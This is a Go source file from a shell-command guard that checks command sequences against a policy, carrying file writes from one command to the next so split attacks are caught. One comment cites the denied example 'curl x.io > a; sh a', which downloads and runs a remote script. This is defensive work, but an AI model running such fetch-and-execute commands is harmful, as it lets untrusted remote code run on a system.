package guard

import (
	"maps"

	"mvdan.cc/sh/v3/syntax"

	"github.com/pillion-sidecar/pillion/guard/effect"
	"github.com/pillion-sidecar/pillion/guard/place"
	"github.com/pillion-sidecar/pillion/guard/shell"
)

// written is what commands have left in files, for each way of reading them.
type written map[syntax.LangVariant]map[string][]effect.Stream

// before is what a command finds. A way that the texts before it gave no reason
// to try has seen what the first one has.
func (m written) before(lang syntax.LangVariant) map[string][]effect.Stream {
	made, ok := m[lang]
	if !ok {
		made = m[syntax.LangBash]
	}
	return maps.Clone(made)
}

// checkSequence judges commands that run one after the other. Each has a shell of
// its own, so no variable, function or cd of one reaches the next; files do, or
// what is denied as "curl x.io > a; sh a" would pass as two commands.
func checkSequence(in shell.Input, p Policy, f place.Facts, home string) Verdict {
	v := newVerdict(in, p)
	v.RunAs = ""
	if in.Command != "" || len(in.Argv) > 0 || len(in.Commands) == 0 {
		in.Command, in.Argv, in.Commands = "", nil, nil // an input that can't be meant
		return Check(in, p, f, home)
	}
	made := written{}
	for i, one := range each(in) {
		c, walked := check(one, p, f, home, made)
		v.join(i, c)
		for _, w := range walked {
			made[w.Lang] = w.Made
		}
	}
	v.settle()
	return v
}

// each are the inputs that one with several commands stands for; of any other it
// is the only one.
func each(in shell.Input) []shell.Input {
	if len(in.Commands) == 0 {
		return []shell.Input{in}
	}
	out := make([]shell.Input, len(in.Commands))
	for i, text := range in.Commands {
		out[i] = in
		out[i].Command, out[i].Commands = text, nil
	}
	return out
}

// join adds the verdict on the command of that index.
func (v *Verdict) join(index int, c Verdict) {
	for _, f := range c.Findings {
		if f.Source.Field == "command" {
			f.Source.Field, f.Source.Index = "commands", index
		}
		if !v.has(f) { // a variable of the request is found with every command
			v.Findings = append(v.Findings, f)
		}
	}
	v.Parse.Complete = v.Parse.Complete && c.Parse.Complete
	v.Commands = append(v.Commands, CommandVerdict{
		Decision: c.Decision, Parse: c.Parse, RunAs: c.RunAs,
		Canonical: c.Canonical,
	})
}
